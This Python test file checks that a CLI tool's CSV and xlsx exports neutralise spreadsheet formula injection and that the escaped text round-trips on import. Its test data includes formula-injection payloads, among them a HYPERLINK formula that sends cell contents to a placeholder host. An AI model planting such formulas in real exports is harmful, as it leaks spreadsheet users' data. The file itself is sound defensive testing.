"""Exports are inert (issue 15 point 5): a CSV cell a spreadsheet would run (= + - @ tab CR)
is written after a `'`, import takes it off again, so any text makes the round trip exactly;
an xlsx export holds no formula, whatever its text starts with."""

import csv

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from commands.cli import cli
from store.exchange import tabular

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=1",
    "''",
    "'",
    "=",
]
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=20)
# Text that starts like a formula more often than chance would have it.
CELLS = TEXT | st.tuples(st.sampled_from([*DANGEROUS, "'", "''"]), TEXT).map("".join)
COLUMNS = ["code", "name", "note"]


def rows_of(values: list[str]) -> list[dict]:
    return [{"code": f"R{i}", "name": v, "note": v[::-1]} for i, v in enumerate(values)]


@given(CELLS)
def test_neutralise_makes_any_text_inert_and_unneutralise_undoes_it(text):
    written = tabular.neutralise(text)
    assert not written.startswith(DANGEROUS)
    assert tabular.unneutralise(written) == text


def test_numbers_stay_numbers():
    assert tabular.neutralise(-3) == -3 and tabular.neutralise(2.5) == 2.5


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(CELLS, min_size=1, max_size=6))
def test_csv_export_then_import_gives_back_the_same_text(tmp_path, values):
    path = tabular.write_table(tmp_path / "out.csv", "csv", COLUMNS, rows_of(values))
    with path.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file):
            assert not any(cell.startswith(DANGEROUS) for cell in row)
    sheet = tabular.read_sheet(path)
    assert sheet.headers == COLUMNS
    assert [r.cells for r in sheet.rows] == [
        [r["code"], r["name"], r["note"]] for r in rows_of(values)
    ]


def test_the_hostile_cells_are_written_with_a_quote(tmp_path):
    path = tabular.write_table(tmp_path / "out.csv", "csv", COLUMNS, rows_of(HOSTILE))
    with path.open(encoding="utf-8-sig", newline="") as file:
        names = [row[1] for row in csv.reader(file)][1:]
    assert names == ["'" + v if v.startswith((*DANGEROUS, "'")) else v for v in HOSTILE]
    assert names[0] == "'=1+1" and names[-1] == "'="


def _xlsx_cells(path):
    book = load_workbook(path)  # not read-only: the cells' data types as the file has them
    try:
        return [cell for row in book.active.iter_rows() for cell in row]
    finally:
        book.close()


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(CELLS.filter(lambda t: not ILLEGAL_CHARACTERS_RE.search(t)), min_size=1, max_size=4)
)
def test_xlsx_export_holds_no_formula(tmp_path, values):
    columns = ["=code", *COLUMNS[1:]]  # a header may not run either
    rows = [{"=code": r["code"], **r} for r in rows_of([*HOSTILE, *values])]
    path = tabular.write_table(tmp_path / "out.xlsx", "xlsx", columns, rows)
    cells = _xlsx_cells(path)
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    written = [[c.value or "" for c in cells[i : i + 3]] for i in range(3, len(cells), 3)]
    assert written == [[r["code"], r["name"], r["note"]] for r in rows]
    assert cells[0].value == "=code" and cells[0].data_type == "s"


def test_a_formula_name_through_the_cli_round_trip(tmp_path, db_path):
    """Imported, exported as CSV and re-imported: the name is kept as it was, changes none."""
    source = tmp_path / "units.csv"
    source.write_text(
        "code,name,kind,sector,members_full\n"
        'U1,"\'=HYPERLINK(""http://x.example"",""Bấm"")",grassroots_cell,enterprise,3\n'
        "U2,'+Chi bộ,grassroots_cell,enterprise,3\n",
        encoding="utf-8",
    )
    run = CliRunner().invoke
    assert run(cli, ["--db", str(db_path), "import", "units", str(source)]).exit_code == 0
    out = tmp_path / "export.csv"
    result = run(cli, ["--db", str(db_path), "export", "units", "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'+Chi bộ" in text
    again = run(cli, ["--db", str(db_path), "import", "units", str(out)])
    assert again.exit_code == 0, again.output
    assert "thêm mới 0, cập nhật 0, không đổi 2" in again.output
    names = {r.cells[1] for r in tabular.read_sheet(out).rows}
    assert names == {'=HYPERLINK("http://x.example","Bấm")', "+Chi bộ"}


def test_a_list_printed_as_csv_is_inert_too(tmp_path, db_path):
    source = tmp_path / "units.csv"
    source.write_text(
        "code,name,kind,sector,members_full\nU1,'=1+1,grassroots_cell,enterprise,3\n",
        encoding="utf-8",
    )
    run = CliRunner().invoke
    assert run(cli, ["--db", str(db_path), "import", "units", str(source)]).exit_code == 0
    result = run(cli, ["--db", str(db_path), "units", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(result.stdout.splitlines()) for cell in row]
    assert "'=1+1" in cells and not any(c.startswith(DANGEROUS) for c in cells)
